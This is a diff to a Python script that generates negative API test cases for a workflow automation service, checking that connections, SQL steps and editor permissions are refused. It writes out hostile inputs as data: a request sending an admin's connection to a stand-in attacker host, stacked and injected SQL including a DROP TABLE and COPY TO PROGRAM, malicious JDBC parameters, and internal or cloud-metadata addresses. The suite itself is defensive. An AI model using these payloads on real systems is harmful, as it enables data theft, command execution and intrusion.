@@ -3,7 +3,8 @@
 
 Run from this directory: python3 generate.py. Each file holds method, endpoint ({webhook} stands for the URL of
 a deployed webhook workflow), content_type, body (the exact text sent), expected_status and expected_path (the
-start of the path of one of the answer's errors).
+start of the path of one of the answer's errors), and who sends it ("as": "editor"; an admin when absent). In a
+body, {admin_connection} stands for an admin's http connection that is shared with no one.
 """
 import json, os, glob
 
@@ -17,10 +18,13 @@ TRIGGER = {"type": "manual", "config": {}}
 cases = []
 
 
-def add(name, method, endpoint, body, status, path, content_type="application/json"):
+def add(name, method, endpoint, body, status, path, content_type="application/json", actor="admin"):
     text = body if isinstance(body, str) else json.dumps(body)
-    cases.append((name, {"method": method, "endpoint": endpoint, "content_type": content_type, "body": text,
-                         "expected_status": status, "expected_path": path}))
+    case = {"method": method, "endpoint": endpoint, "content_type": content_type, "body": text,
+            "expected_status": status, "expected_path": path}
+    if actor != "admin":
+        case["as"] = actor
+    cases.append((name, case))
 
 
 def definition(**fields):
@@ -133,6 +137,62 @@ add("loops-over-budget", "POST", "/api/workflows",
         {"action_type": "control.loop", "config": {"items_field": "loop.item", "max_iterations": 10000,
                                                    "loop_actions": LOOP_BODY}}]}), 422,
     "steps[0].config.loop_actions[0].config.max_iterations")
+
+# Connections and database steps (issue 11, points 2 and 4): an editor using an admin's connection, connections
+# named by templates, more than one SQL statement, connections the API must refuse.
+EXFIL = {"url": "https://attacker.example.org/collect", "connection": "{admin_connection}"}
+add("editor-uses-admin-connection", "POST", "/api/workflows", step("http.request", EXFIL), 422,
+    "steps[0].config.connection", actor="editor")
+add("editor-tests-admin-connection", "POST", "/api/workflows/test", {"workflow": step("http.request", EXFIL),
+    "test_data": {}}, 422, "steps[0].config.connection", actor="editor")
+add("editor-nests-admin-connection", "POST", "/api/workflows", step("control.condition", {
+    "conditions": [{"field": "trigger.type", "operator": "equals", "value": "manual"}],
+    "then_actions": [{"action_type": "http.request", "config": EXFIL}]}), 422,
+    "steps[0].config.then_actions[0].config.connection", actor="editor")
+add("admin-connection-to-other-host", "POST", "/api/workflows", step("http.request", EXFIL), 422,
+    "steps[0].config.url")
+for i, (action, config) in enumerate([
+        ("http.request", {"url": "https://api.example.org/", "connection": "{{webhook_data.connection}}"}),
+        ("database.query", {"connection": "{{trigger.db}}", "query": "SELECT 1"}),
+        ("slack.send_message", {"connection": "{{webhook_data.c}}", "text": "x"}),
+        ("email.send", {"connection": "{{webhook_data.c}}", "to": "a@example.org", "subject": "s", "body": "b"})]):
+    add(f"connection-template-{i}", "POST", "/api/workflows", step(action, config), 422, "steps[0].config.connection")
+for i, sql in enumerate(["select 1; commit; create table hacked (id int)", "select 1;;select 2",
+                         "SELECT E'\\''; DROP TABLE workflows; --'", "select $$a$$; copy t to program 'id'",
+                         "select 1 /* a */; select 2 -- b"]):
+    add(f"sql-statements-{i}", "POST", "/api/workflows", step("database.query", {"connection": "db", "query": sql}),
+        422, "steps[0].config.query")
+for i, (fields, path) in enumerate([
+        ({"bearer_token": "x"}, "fields.allowed_hosts"), ({"allowed_hosts": "https://api.example.org/"},
+                                                          "fields.allowed_hosts"),
+        ({"allowed_hosts": "api.example.org:99999"}, "fields.allowed_hosts"),
+        ({"allowed_hosts": "*"}, "fields.allowed_hosts")]):
+    add(f"connection-http-{i}", "POST", "/api/connections", {"name": f"hostile-http-{i}", "type": "http",
+        "fields": fields}, 422, path)
+for i, url in enumerate(["jdbc:postgresql://db.example.org/x?socketFactory=java.io.FileOutputStream",
+                         "jdbc:postgresql://db.example.org/x?sslfactory=org.example.Evil",
+                         "jdbc:postgresql://db.example.org/x?options=-c%20default_transaction_read_only=off",
+                         "jdbc:postgresql://db.example.org/x?preferQueryMode=simple",
+                         "jdbc:postgresql://db.example.org/x?loggerFile=/tmp/x", "jdbc:mysql://db.example.org/x",
+                         "jdbc:postgresql://a.example.org,b.example.org/x", "jdbc:postgresql://user:pw@db.example.org/x"]):
+    add(f"connection-database-url-{i}", "POST", "/api/connections", {"name": f"hostile-db-{i}", "type": "database",
+        "fields": {"url": url}}, 422, "fields.url")
+add("connection-share-role", "POST", "/api/connections", {"name": "hostile-share-role", "type": "http",
+    "fields": {"allowed_hosts": "api.example.org"}, "shared_with": {"roles": ["admin"]}}, 422, "shared_with.roles[0]")
+add("connection-share-user", "POST", "/api/connections", {"name": "hostile-share-user", "type": "http",
+    "fields": {"allowed_hosts": "api.example.org"}, "shared_with": {"users": ["nobody-here"]}}, 422,
+    "shared_with.users[0]")
+for i, (ctype, fields, path) in enumerate([
+        ("smtp", {"host": "10.0.0.5", "port": "25"}, "fields.host"),
+        ("smtp", {"host": "mail.internal", "port": "25"}, "fields.host"),
+        ("database", {"url": "jdbc:postgresql://169.254.169.254:5432/x"}, "fields.url"),
+        ("database", {"url": "jdbc:postgresql://db.corp/x"}, "fields.url"),
+        ("notion", {"token": "t", "base_url": "http://[::ffff:10.0.0.1]/"}, "fields.base_url"),
+        ("slack", {"webhook_url": "http://metadata.google.internal/x"}, "fields.webhook_url")]):
+    add(f"editor-connection-internal-{i}", "POST", "/api/connections", {"name": f"hostile-internal-{i}",
+        "type": ctype, "fields": fields}, 422, path, actor="editor")
+add("editor-reserved-connection-name", "POST", "/api/connections", {"name": "slack", "type": "slack",
+    "fields": {"webhook_url": "https://hooks.example.org/x"}}, 422, "name", actor="editor")
 
 for old in glob.glob("cases/*.json"):
     os.remove(old)
